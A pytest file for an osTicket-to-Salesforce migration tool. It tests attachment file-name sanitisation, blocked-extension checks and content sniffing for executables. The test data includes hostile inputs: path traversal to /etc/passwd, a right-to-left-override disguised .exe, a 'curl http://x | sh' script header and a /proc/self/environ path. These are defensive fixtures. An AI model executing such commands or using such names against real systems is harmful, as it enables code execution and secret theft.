"""File names made safe for the destination; the blocked-type check on the safe name and on the content."""

import pytest
from hdm.destinations.salesforce.file_safety import blocked_extension, safe_file_name, sniff_executable
from hdm.destinations.salesforce.options import DEFAULT_BLOCKED_EXTENSIONS as DEFAULT_BLOCKED
from hdm.destinations.salesforce.options import SalesforceOptions
from hdm.destinations.salesforce.references import ReferenceNames
from hdm.destinations.salesforce.transform import SalesforceTransformer
from hdm.mapping import load_mapping
from hdm.model import Attachment, Provenance


@pytest.mark.parametrize("raw,safe", [
    ("report.pdf", "report.pdf"),
    ("../../etc/passwd", "_.._etc_passwd"),
    ("C:\\Users\\x\\evil.doc", "C__Users_x_evil.doc"),
    ("a/b/c.txt", "a_b_c.txt"),
    ("bell\x07 and\nnewline\t.txt", "bell andnewline.txt"),
    ("nul\x00byte.pdf", "nulbyte.pdf"),
    ("invoice\u202egpj.exe", "invoicegpj.exe"),  # right-to-left override shows it as "invoiceexe.jpg"
    ("evil.exe.", "evil.exe"),
    ("evil.exe ", "evil.exe"),
    ("evil.exe . . ", "evil.exe"),
    ("   ", "attachment-7"),
    ("...", "attachment-7"),
    ("", "attachment-7"),
    ("\x01\x02", "attachment-7"),
    ("CON.txt", "_CON.txt"),
    ("what?<>|*.txt", "what_____.txt"),
])
def test_hostile_names_are_made_safe(raw, safe):
    assert safe_file_name(raw, "attachment-7") == safe


def test_long_names_keep_their_extension_within_255_characters():
    name = safe_file_name("x" * 400 + ".pdf", "f")
    assert len(name) == 255 and name.endswith(".pdf")


@pytest.mark.parametrize("raw", ["evil.exe.", "evil.exe ", "evil.EXE", "evil.exe\x00", "evil.exe\u200b",
                                 "dir/evil.exe", "evil.exe. . .", "evil.scr\t"])
def test_the_blocked_list_works_on_the_safe_name(raw):
    assert blocked_extension(safe_file_name(raw, "f"), DEFAULT_BLOCKED) in ("exe", "scr")


@pytest.mark.parametrize("head,what", [
    (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(54), "Windows executable"),
    (b"\x7fELF\x02\x01\x01" + bytes(9), "ELF"),
    (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01", "Mach-O"),
    (b"#!/bin/sh\ncurl http://x | sh\n", "script"),
    (b"#! /usr/bin/env python\n", "script"),
    (b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00", "shortcut"),
])
def test_programs_are_recognised_by_their_content(head, what):
    assert what in (sniff_executable(head) or "")


@pytest.mark.parametrize("head", [b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"MZ Wallace order #12, shipped Monday",
                                  b"#!important: call back", b"hello", b""])
def test_ordinary_content_is_not_taken_for_a_program(head):
    assert sniff_executable(head) is None


def _transform(*recs):
    tx = SalesforceTransformer(load_mapping("osticket", "salesforce"), SalesforceOptions(), ReferenceNames())
    return {r["_source_key"]: r for r in tx.transform("attachment", list(recs))["files"]}


def test_attachments_reach_salesforce_under_their_safe_name_and_the_original_is_reported():
    rows = _transform(
        Attachment(Provenance("osticket", "file", "1"), ticket="ticket:1", file_name="../secret\x1b[2J.txt",
                   size=3, blob="blobs/a"),
        Attachment(Provenance("osticket", "file", "2"), ticket="ticket:1", file_name="evil.exe.", size=3,
                   blob="blobs/b"),
        Attachment(Provenance("osticket", "file", "3"), ticket="ticket:1", file_name="evil.exe ", size=3,
                   blob="blobs/c"),
        Attachment(Provenance("osticket", "file", "4"), ticket="ticket:1", file_name="", size=3, blob="blobs/d"),
    )
    first = rows["attachment:1"]
    assert first["Title"] == first["PathOnClient"] == "_secret[2J.txt" and "_hold" not in first
    flag = next(f for f in first["_flags"] if f["code"] == "file_name_sanitised")
    assert repr("../secret\x1b[2J.txt") in flag["reason"]  # the original name, escaped, in the report
    for key, original in (("attachment:2", "evil.exe."), ("attachment:3", "evil.exe ")):
        assert ".exe" in rows[key]["_hold"] and repr(original) in rows[key]["_hold"]
        assert any(f["code"] == "file_held" for f in rows[key]["_flags"])
    assert rows["attachment:4"]["PathOnClient"] == "attachment-4"


def test_a_refused_source_path_is_held_with_the_refusal_as_its_reason():
    att = Attachment(Provenance("osticket", "file", "5"), ticket="ticket:1", file_name="environ.txt", size=3)
    att.flag("attachment_path_refused", "storage backend '6': path '/proc/self/environ' resolves outside the "
             "configured attachment folders; not read", field="blob", severity="error")
    row = _transform(att)["attachment:5"]
    assert "/proc/self/environ" in row["_hold"] and "not staged" in row["_hold"]
    assert {f["code"] for f in row["_flags"]} >= {"attachment_path_refused", "file_held"}
